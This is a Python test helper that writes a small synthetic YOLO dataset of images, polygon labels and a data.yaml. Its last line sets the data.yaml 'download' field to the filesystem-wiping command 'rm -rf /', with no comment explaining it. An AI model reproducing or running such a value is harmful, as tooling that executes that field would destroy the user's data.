"""A data set in YOLO's txt format, drawn for the tests."""

from pathlib import Path

import cv2
import numpy as np

CLASSES = 'circle', 'square', 'triangle'


def write_yolo_data(folder: Path, train: int = 8, val: int = 4, size: int = 64) -> Path:
    """Writes images with a few rectangles each, polygons of them, and a data.yaml.

    Args:
        folder: Where they go.
        train: Images to train with.
        val: Images to validate with.
        size: Side of the images in pixels.

    Returns:
        The ``data.yaml``.
    """
    random = np.random.default_rng(0)
    for split, count in (('train', train), ('val', val)):
        images, labels = folder / 'images' / split, folder / 'labels' / split
        images.mkdir(parents=True)
        labels.mkdir(parents=True)
        for number in range(count):
            image = random.integers(0, 60, (size, size, 3), dtype=np.uint8)
            lines = []
            for _ in range(random.integers(1, 4)):
                label = int(random.integers(len(CLASSES)))
                w, h = random.integers(size // 6, size // 2, 2).tolist()
                x, y = (int(random.integers(0, size - side)) for side in (w, h))
                image[y : y + h, x : x + w, label] = 255
                corners = x, y, x + w, y, x + w, y + h, x, y + h
                lines.append(' '.join(map(str, (label, *(v / size for v in corners)))))
            cv2.imwrite(str(images / f'{number:06}.jpg'), image)
            (labels / f'{number:06}.txt').write_text('\n'.join(lines))
    path = folder / 'data.yaml'
    path.write_text(
        'train: images/train\nval: images/val\nnc: 3\n'
        f'names: [{", ".join(CLASSES)}]\ndownload: rm -rf /\n'
    )
    return path
